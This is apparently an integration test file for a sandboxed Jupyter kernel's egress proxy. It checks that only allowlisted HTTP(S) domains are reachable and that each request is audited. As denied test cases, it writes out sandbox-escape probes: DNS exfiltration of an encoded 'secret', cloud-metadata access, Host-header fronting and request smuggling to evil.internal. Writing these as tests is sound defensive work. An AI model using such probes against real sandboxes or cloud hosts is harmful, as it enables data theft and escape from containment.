"""Network "allowlist": real HTTP(S) through the host's egress proxy, and nothing else.

No test may reach the internet, so local upstream servers stand in for it: one plain
HTTP, one HTTPS with a test CA (trustme) that also serves a tiny package index. The
server's ``egress_host_map`` maps the test names onto them, and ``127.0.0.1/32`` is the
one private network the proxy may reach, so both the allowed and the denied cases are
real connections decided by the real proxy.
"""

from __future__ import annotations

import http.server
import io
import json
import socket
import ssl
import threading
import time
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import trustme
from jupyter_client import KernelManager
from jupyter_client.blocking.client import BlockingKernelClient
from jupyter_core.utils import run_sync
from traitlets.config import Config

from sandbox_kernel.egress import EgressProxy
from sandbox_kernel.errors import ConfigurationError

from ..upstreams import KeepAliveUpstream
from .conftest import KERNEL, KernelStarter, epoll_holders, run, run_ok

pytestmark = pytest.mark.integration

WHEEL_NAME = "demo_pkg-1.0-py3-none-any.whl"


def _wheel() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as wheel:
        wheel.writestr("demo_pkg/__init__.py", "VALUE = 42\n")
        info = "demo_pkg-1.0.dist-info"
        wheel.writestr(f"{info}/METADATA", "Metadata-Version: 2.1\nName: demo-pkg\nVersion: 1.0\n")
        wheel.writestr(
            f"{info}/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        )
        wheel.writestr(f"{info}/RECORD", "")
    return buffer.getvalue()


class _Upstream(http.server.BaseHTTPRequestHandler):
    """Echoes what it received as JSON; also a one-package simple index."""

    wheel = _wheel()

    def do_GET(self) -> None:
        if self.path.startswith("/simple/demo-pkg"):
            body = f'<a href="/files/{WHEEL_NAME}">{WHEEL_NAME}</a>'.encode()
            self._send(body, "text/html")
        elif self.path == f"/files/{WHEEL_NAME}":
            self._send(self.wheel, "application/octet-stream")
        else:
            echo = {"host": self.headers.get("Host"), "path": self.path, "tls": self.server.tls}  # type: ignore[attr-defined]
            self._send(json.dumps(echo).encode(), "application/json")

    def _send(self, body: bytes, kind: str) -> None:
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        pass


@dataclass
class Upstreams:
    http_port: int
    https_port: int
    ca_pem: bytes
    #: A host service (bound on every address) that the sandbox must never reach.
    host_service_port: int
    keepalive: KeepAliveUpstream


def _serve(bind: str, tls: ssl.SSLContext | None) -> tuple[http.server.ThreadingHTTPServer, threading.Thread]:
    server = http.server.ThreadingHTTPServer((bind, 0), _Upstream)
    server.daemon_threads = True
    server.tls = tls is not None  # type: ignore[attr-defined]
    if tls is not None:
        server.socket = tls.wrap_socket(server.socket, server_side=True)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    return server, thread


@pytest.fixture(scope="module")
def upstreams() -> Iterator[Upstreams]:
    ca = trustme.CA()
    cert = ca.issue_cert("allowed.test", "*.allowed.test", "other.test")
    tls = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    cert.configure_cert(tls)
    servers = [_serve("127.0.0.1", None), _serve("127.0.0.1", tls), _serve("0.0.0.0", None)]
    plain, secure, host_service = (s.server_address[1] for s, _ in servers)
    keepalive = KeepAliveUpstream(timeout=10)
    yield Upstreams(int(plain), int(secure), ca.cert_pem.bytes(), int(host_service), keepalive)
    keepalive.stop()
    for server, thread in servers:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)


def _server_config(up: Upstreams, audit_log: Path, **extra: Any) -> Config:
    return Config(
        {
            "SandboxProvisioner": {
                "max_allowed_domains": [
                    f"allowed.test:{up.https_port}",
                    f"*.allowed.test:{up.https_port}",
                    f"plain.test:{up.http_port}",
                    f"plain.test:{up.keepalive.port}",
                    f"other.test:{up.https_port}",
                ],
                "egress_host_map": {
                    "allowed.test": "127.0.0.1",
                    "pypi.allowed.test": "127.0.0.1",
                    "api.allowed.test": "127.0.0.1",
                    "plain.test": "127.0.0.1",
                    "other.test": "127.0.0.1",
                    "loopback.allowed.test": "127.0.0.2",
                    "metadata.allowed.test": "169.254.169.254",
                    "private.allowed.test": "10.255.255.1",
                },
                "egress_private_networks": ["127.0.0.1/32"],
                "audit_log": str(audit_log),
                **extra,
            }
        }
    )


@pytest.fixture
def web_kernel(
    start_kernel: KernelStarter,
    make_kernelspec: Any,
    upstreams: Upstreams,
    workspace: Path,
    tmp_path: Path,
) -> tuple[KernelManager, BlockingKernelClient, Path]:
    """A kernel allowed allowed.test and its subdomains (HTTPS port) and plain.test (HTTP
    and keep-alive ports)."""
    (workspace / "ca.pem").write_bytes(upstreams.ca_pem)
    name = make_kernelspec(
        "py-web",
        config={
            "network": "allowlist",
            "allowed_domains": [
                f"allowed.test:{upstreams.https_port}",
                f"*.allowed.test:{upstreams.https_port}",
                f"plain.test:{upstreams.http_port}",
                f"plain.test:{upstreams.keepalive.port}",
            ],
        },
        env={ca: "/workspace/ca.pem" for ca in ("SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "PIP_CERT")},
    )
    audit_log = tmp_path / "audit" / "audit.jsonl"
    km, kc = start_kernel(name, config=_server_config(upstreams, audit_log))
    return km, kc, audit_log


def _fetch(url: str) -> str:
    """Cell code: fetch ``url`` with urllib (proxy from the environment), print the outcome."""
    return (
        "import urllib.request, urllib.error\n"
        "try:\n"
        f"    print('OK', urllib.request.urlopen({url!r}, timeout=20).read().decode())\n"
        "except (urllib.error.URLError, OSError) as e:\n"
        "    print('FAILED', e)\n"
    )


def _egress_records(audit_log: Path, count: int, timeout: float = 10) -> list[dict[str, Any]]:
    deadline = time.monotonic() + timeout
    while True:
        lines = audit_log.read_text().splitlines() if audit_log.exists() else []
        records = [r for r in map(json.loads, lines) if r["event"] == "egress"]
        if len(records) >= count or time.monotonic() > deadline:
            return records
        time.sleep(0.1)


def test_allowed_domains_are_reached_with_standard_clients(
    web_kernel: tuple[KernelManager, BlockingKernelClient, Path], upstreams: Upstreams
) -> None:
    km, kc, audit_log = web_kernel
    https_url = f"https://allowed.test:{upstreams.https_port}/data"
    out = run_ok(kc, _fetch(https_url))
    assert out.startswith("OK "), out
    assert json.loads(out[3:]) == {
        "host": f"allowed.test:{upstreams.https_port}",
        "path": "/data",
        "tls": True,
    }

    out = run_ok(
        kc,
        "import requests\n"
        f"print(requests.get('https://api.allowed.test:{upstreams.https_port}/x', timeout=20).json())",
    )
    assert "'tls': True" in out
    assert "'path': '/x'" in out

    out = run_ok(kc, _fetch(f"http://plain.test:{upstreams.http_port}/plain"))
    assert json.loads(out[3:])["host"] == f"plain.test:{upstreams.http_port}"

    records = _egress_records(audit_log, 3)
    assert [(r["host"], r["verdict"]) for r in records] == [
        ("allowed.test", "allowed"),
        ("api.allowed.test", "allowed"),
        ("plain.test", "allowed"),
    ]
    assert all(r["kernel_id"] == km.kernel_id and r["msg_id"] for r in records)
    assert records[0]["port"] == upstreams.https_port


def test_pip_installs_from_an_allowed_index(
    web_kernel: tuple[KernelManager, BlockingKernelClient, Path], upstreams: Upstreams
) -> None:
    _, kc, _ = web_kernel
    index = f"https://pypi.allowed.test:{upstreams.https_port}/simple/"
    out = run_ok(
        kc,
        "import subprocess, sys\n"
        "r = subprocess.run([sys.executable, '-m', 'pip', 'install', '--no-deps', '--no-cache-dir',\n"
        f"    '--index-url', {index!r}, 'demo-pkg'],\n"
        "    capture_output=True, text=True)\n"
        "print(r.returncode, r.stdout[-500:], r.stderr[-2000:])\n"
        # Into the kernel's own package folder, on sys.path already (no restart).
        "import demo_pkg\n"
        "print('VALUE', demo_pkg.VALUE)\n",
        timeout=120,
    )
    assert "VALUE 42" in out, out


def test_everything_else_is_denied_by_the_proxy_with_a_reason(
    web_kernel: tuple[KernelManager, BlockingKernelClient, Path], upstreams: Upstreams
) -> None:
    km, kc, audit_log = web_kernel
    port = upstreams.https_port
    cases = {
        # a name the server can resolve, but not on this kernel's list
        f"https://other.test:{port}/": "not in this kernel's allowed domains",
        # an allowed name, on a port that is not allowed
        f"https://allowed.test:{upstreams.http_port}/": "not in this kernel's allowed domains",
        # (loopback is NO_PROXY: the sandbox's own, where nothing listens)
        f"https://93.184.216.34:{port}/": "IP literal",
        f"http://[2606:4700::1111]:{upstreams.http_port}/": "IP literal",
        f"https://loopback.allowed.test:{port}/": "non-public address",
        f"https://metadata.allowed.test:{port}/": "non-public address",
        f"https://private.allowed.test:{port}/": "non-public address",
        "http://169.254.169.254/latest/meta-data/": "IP literal",
    }
    for url, reason in cases.items():
        out = run_ok(kc, _fetch(url))
        assert out.startswith("FAILED"), (url, out)
        assert "403" in out, (url, out)
        assert reason in out, (url, out)

    records = _egress_records(audit_log, len(cases))
    assert [r["verdict"] for r in records] == ["denied"] * len(cases)
    assert {r["host"] for r in records} >= {"other.test", "93.184.216.34", "metadata.allowed.test"}
    assert all(r["kernel_id"] == km.kernel_id for r in records)


def test_a_refusal_reads_as_one_line_in_the_notebook(
    web_kernel: tuple[KernelManager, BlockingKernelClient, Path], upstreams: Upstreams
) -> None:
    """Uncaught, as an analyst's cell leaves it: the proxy's reason, or the kernel's
    network policy, in one line instead of the library's traceback."""
    _, kc, _ = web_kernel
    port = upstreams.https_port
    cases = {
        f"import urllib.request\nurllib.request.urlopen('https://other.test:{port}/', timeout=20)": (
            f"sandbox-kernel egress denied: other.test:{port} is not in this kernel's allowed domains"
        ),
        "import socket\nsocket.create_connection(('other.test', 443), timeout=5)": (
            "cannot resolve 'other.test': this sandboxed kernel reaches only HTTP(S) to its allowed "
            f"domains (allowed.test:{port}, *.allowed.test:{port}, "
        ),
    }
    for code, reason in cases.items():
        result = run(kc, code)
        (error,) = [output for output in result.outputs if output["type"] == "error"]
        (line,) = error["traceback"]
        assert reason in line, line


def test_no_way_around_the_proxy(
    web_kernel: tuple[KernelManager, BlockingKernelClient, Path], upstreams: Upstreams
) -> None:
    """Raw TCP/UDP, DNS, the host's services and the metadata address: no route at all."""
    _, kc, _ = web_kernel
    host_ip = socket.gethostbyname(socket.gethostname())
    service = upstreams.host_service_port
    attempts = {
        "tcp by IP": "socket.create_connection(('1.1.1.1', 443), timeout=3)",
        "metadata": "socket.create_connection(('169.254.169.254', 80), timeout=3)",
        "docker gateway": f"socket.create_connection(('172.17.0.1', {service}), timeout=3)",
        "host address": f"socket.create_connection(({host_ip!r}, {service}), timeout=3)",
        "host loopback service": f"socket.create_connection(('127.0.0.1', {upstreams.http_port}), timeout=3)",
        "dns lookup": "socket.getaddrinfo('allowed.test', 443)",
        "dns exfiltration": "socket.getaddrinfo('c2VjcmV0.exfil.allowed.test', 53)",
        "udp to a resolver": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('8.8.8.8', 53))",
    }
    code = "import socket\n"
    code += "for name, attempt in {\n"
    code += "".join(f"    {name!r}: lambda: {expr},\n" for name, expr in attempts.items())
    code += "}.items():\n    try:\n        attempt(); print('ALLOWED', name)\n"
    code += "    except OSError as e:\n        print('denied', name, type(e).__name__)\n"
    out = run_ok(kc, code, timeout=120)
    assert "ALLOWED" not in out, out
    assert out.count("denied") == len(attempts), out


def _proxy_exchange(request: str) -> str:
    """Cell code: speak to the in-sandbox proxy port directly, print its first answer line."""
    return (
        "import socket\n"
        "s = socket.create_connection(('127.0.0.1', 3128), timeout=20)\n"
        f"s.sendall({request.encode()!r})\n"
        "print(s.recv(4096).decode(errors='replace').splitlines()[0])\n"
    )


def test_proxy_abuse_is_refused(
    web_kernel: tuple[KernelManager, BlockingKernelClient, Path], upstreams: Upstreams
) -> None:
    _, kc, _ = web_kernel
    port = upstreams.https_port
    ip_literal = run_ok(kc, _proxy_exchange(f"CONNECT 127.0.0.1:{port} HTTP/1.1\r\nHost: x\r\n\r\n"))
    assert ip_literal.startswith("HTTP/1.1 403"), ip_literal
    assert "IP literal" in ip_literal, ip_literal
    bad_port = run_ok(kc, _proxy_exchange("CONNECT allowed.test:22 HTTP/1.1\r\nHost: x\r\n\r\n"))
    assert bad_port.startswith("HTTP/1.1 403"), bad_port
    garbage = run_ok(kc, _proxy_exchange("HELLO\r\n\r\n"))
    assert garbage.startswith("HTTP/1.1 400"), garbage

    # Domain fronting through plain HTTP: the upstream sees the URL's host, not ours.
    fronted = run_ok(
        kc,
        "import socket\n"
        "s = socket.create_connection(('127.0.0.1', 3128), timeout=20)\n"
        f"s.sendall(b'GET http://plain.test:{upstreams.http_port}/f HTTP/1.1\\r\\n'\n"
        "          b'Host: evil.example\\r\\n\\r\\n')\n"
        "data = b''\n"
        "while chunk := s.recv(65536):\n"
        "    data += chunk\n"
        "print(data.split(b'\\r\\n\\r\\n', 1)[1].decode())\n",
    )
    assert json.loads(fronted)["host"] == f"plain.test:{upstreams.http_port}"

    # A tunnel opened for an allowed name must carry TLS for that same name.
    sni = run_ok(
        kc,
        "import socket, ssl\n"
        "s = socket.create_connection(('127.0.0.1', 3128), timeout=20)\n"
        f"s.sendall(b'CONNECT allowed.test:{port} HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n')\n"
        "print(s.recv(4096).split(b'\\r\\n')[0].decode())\n"
        "ctx = ssl.create_default_context(cafile='/workspace/ca.pem')\n"
        "try:\n"
        "    ctx.wrap_socket(s, server_hostname='other.test').do_handshake()\n"
        "    print('HANDSHAKE OK')\n"
        "except (OSError, ssl.SSLError) as e:\n"
        "    print('HANDSHAKE FAILED', type(e).__name__)\n",
    )
    assert sni.splitlines()[0].startswith("HTTP/1.1 200"), sni
    assert "HANDSHAKE FAILED" in sni, sni


def test_a_second_request_on_one_connection_never_passes_unchecked(
    web_kernel: tuple[KernelManager, BlockingKernelClient, Path], upstreams: Upstreams
) -> None:
    """Issue #8: an allowed request, then on the same connection one to a denied host,
    pipelined in one write and with a keep-alive http.client connection."""
    km, kc, audit_log = web_kernel
    upstream = upstreams.keepalive
    upstream.seen.clear()
    first = f"http://plain.test:{upstream.port}/first"
    pipelined = run_ok(
        kc,
        "import socket\n"
        "s = socket.create_connection(('127.0.0.1', 3128), timeout=20)\n"
        f"s.sendall(b'GET {first} HTTP/1.1\\r\\nHost: plain.test\\r\\n\\r\\n'\n"
        "          b'GET /smuggled HTTP/1.1\\r\\nHost: evil.internal\\r\\n\\r\\n')\n"
        "s.settimeout(3)\n"
        "data = b''\n"
        "try:\n"
        "    while chunk := s.recv(65536):\n"
        "        data += chunk\n"
        "except OSError:\n"
        "    pass\n"
        "print(data.count(b'HTTP/1.1 200 OK'), data.count(b'/smuggled'))\n",
    )
    assert pipelined.split() == ["1", "0"], pipelined
    assert upstream.paths() == ["/first"]

    reused = run_ok(
        kc,
        "import http.client\n"
        "c = http.client.HTTPConnection('127.0.0.1', 3128, timeout=20)\n"
        f"c.request('GET', {first!r})\n"
        "r = c.getresponse()\n"
        "print(r.status, r.read().decode())\n"
        f"c.request('GET', 'http://evil.internal:{upstream.port}/smuggled')\n"
        "try:\n"
        "    r = c.getresponse()\n"
        "    print(r.status, r.reason)\n"
        "except OSError as e:\n"
        "    print('ERROR', type(e).__name__)\n",
    )
    assert reused.splitlines()[0].startswith("200 "), reused
    assert "/smuggled" not in reused, reused
    assert upstream.paths() == ["/first", "/first"], "the denied requests never reached the upstream"

    records = _egress_records(audit_log, 4)
    assert [(r["host"], r["verdict"]) for r in records] == [
        ("plain.test", "allowed"),
        ("evil.internal", "denied"),
        ("plain.test", "allowed"),
        ("evil.internal", "denied"),
    ]
    assert "one request per connection" in records[1]["reason"]
    assert all(r["kernel_id"] == km.kernel_id for r in records)


def test_executions_list_their_egress_decisions(
    web_kernel: tuple[KernelManager, BlockingKernelClient, Path], upstreams: Upstreams
) -> None:
    _, kc, audit_log = web_kernel
    run_ok(kc, _fetch(f"https://allowed.test:{upstreams.https_port}/a") + _fetch("https://other.test/b"))
    deadline = time.monotonic() + 10
    finished: list[dict[str, Any]] = []
    while not finished and time.monotonic() < deadline:
        records = [json.loads(line) for line in audit_log.read_text().splitlines()]
        finished = [r for r in records if r["event"] == "finished" and "other.test" in r["code"]]
        time.sleep(0.1)
    assert finished, "the execution never reached the audit log"
    assert [(e["host"], e["verdict"]) for e in finished[0]["egress"]] == [
        ("allowed.test", "allowed"),
        ("other.test", "denied"),
    ]


def test_nothing_gets_out_when_the_proxy_is_down(
    web_kernel: tuple[KernelManager, BlockingKernelClient, Path], upstreams: Upstreams
) -> None:
    km, kc, _ = web_kernel
    url = f"https://allowed.test:{upstreams.https_port}/"
    assert run_ok(kc, _fetch(url)).startswith("OK")
    EgressProxy.instance().remove_kernel(km.kernel_id)
    out = run(kc, _fetch(url), timeout=60).stdout
    assert out.startswith("FAILED"), out
    assert "503" in out, out


def test_a_kernelspec_cannot_widen_the_network(
    make_kernelspec: Any, upstreams: Upstreams, workspace: Path, tmp_path: Path
) -> None:
    name = make_kernelspec("py-greedy", config={"network": "allowlist", "allowed_domains": ["*.example.com"]})
    km = KernelManager(kernel_name=name, config=_server_config(upstreams, tmp_path / "audit.jsonl"))
    with pytest.raises(ConfigurationError, match=r"exceed the server's ceiling.*max_allowed_domains"):
        km.start_kernel(cwd=str(workspace))
    km = KernelManager(kernel_name=name)  # the default ceiling allows no network at all
    with pytest.raises(ConfigurationError, match=r"max_allowed_domains=\[\]"):
        km.start_kernel(cwd=str(workspace))


def test_offline_and_web_kernelspecs_coexist(
    start_kernel: KernelStarter, make_kernelspec: Any, upstreams: Upstreams, workspace: Path, tmp_path: Path
) -> None:
    (workspace / "ca.pem").write_bytes(upstreams.ca_pem)
    web = make_kernelspec(
        "py-docs",
        config={"network": "allowlist", "allowed_domains": [f"allowed.test:{upstreams.https_port}"]},
        env={"SSL_CERT_FILE": "/workspace/ca.pem"},
    )
    config = _server_config(upstreams, tmp_path / "audit.jsonl")
    _, offline_kc = start_kernel(KERNEL, config=config)
    _, web_kc = start_kernel(web, config=config)
    url = f"https://allowed.test:{upstreams.https_port}/"
    assert run_ok(web_kc, _fetch(url)).startswith("OK")
    assert run_ok(offline_kc, _fetch(url)).startswith("FAILED")
    policy = run_ok(
        web_kc, "import os, json; print(json.loads(os.environ['SANDBOX_KERNEL_POLICY'])['network'])"
    )
    assert policy.strip() == "allowlist"


def test_a_kernel_with_allowed_domains_pauses_and_reaches_them_after_the_resume(
    web_kernel: tuple[KernelManager, BlockingKernelClient, Path], upstreams: Upstreams
) -> None:
    """Its egress relay holds host sockets too: the pause has the proxy and the relay let
    go of each other, the resume has them meet again; variables and a keep-alive session
    survive, and every request is still decided and logged by the proxy."""
    km, kc, audit_log = web_kernel
    url = f"https://allowed.test:{upstreams.https_port}/before"
    out = run_ok(
        kc, f"import requests\ns = requests.Session()\nx = 42\nprint(s.get({url!r}, timeout=20).json())"
    )
    assert "'path': '/before'" in out

    paused = run_sync(km.provisioner.pause)()
    assert paused.size is not None

    after = f"https://allowed.test:{upstreams.https_port}/after"
    out = run_ok(kc, f"print(x, s.get({after!r}, timeout=20).json()['path'])")
    assert out.strip() == "42 /after"
    assert km.provisioner.paused is None
    out = run_ok(kc, _fetch(f"http://plain.test:{upstreams.http_port}/plain"))
    assert out.startswith("OK "), out
    out = run_ok(kc, _fetch(f"https://denied.test:{upstreams.https_port}/"))
    assert out.startswith("FAILED"), out
    records = _egress_records(audit_log, 4)
    assert [(r["host"], r["verdict"]) for r in records] == [
        ("allowed.test", "allowed"),
        ("allowed.test", "allowed"),
        ("plain.test", "allowed"),
        ("denied.test", "denied"),
    ]
    # Connections came and went: no epoll set of the egress relay's a restore could spoil.
    assert epoll_holders(kc) == []


def test_an_allowed_request_after_a_flood_of_denials_is_always_logged(
    web_kernel: tuple[KernelManager, BlockingKernelClient, Path], upstreams: Upstreams
) -> None:
    """After 260 denied requests from a background thread, an allowed request reached the
    upstream with no audit line, and the denials' count waited for a later line."""
    _, kc, audit_log = web_kernel
    run_ok(
        kc,
        "import threading, urllib.request\n"
        "def flood():\n"
        "    for _ in range(260):\n"
        "        try:\n"
        "            urllib.request.urlopen('http://denied.test/', timeout=20)\n"
        "        except OSError:\n"
        "            pass\n"
        "flooding = threading.Thread(target=flood)\n"
        "flooding.start()\n",
    )
    run_ok(kc, "flooding.join()", timeout=240)
    out = run_ok(kc, _fetch(f"https://allowed.test:{upstreams.https_port}/after-the-flood"))
    assert out.startswith("OK"), out
    assert "/after-the-flood" in out, out
    records = _egress_records(audit_log, 1)
    assert [(r["host"], r["verdict"]) for r in records if r["host"] == "allowed.test"] == [
        ("allowed.test", "allowed")
    ]
    # No later line comes; the denials are counted all the same.
    deadline = time.monotonic() + 10
    while True:
        lines = [json.loads(line) for line in audit_log.read_text().splitlines()]
        counted = sum(r["count"] for r in lines if r["event"] == "egress_suppressed")
        logged = sum(1 for r in lines if r["event"] == "egress" and r["host"] == "denied.test")
        if counted + logged >= 260 or time.monotonic() > deadline:
            break
        time.sleep(0.2)
    assert (counted + logged, counted > 0) == (260, True)
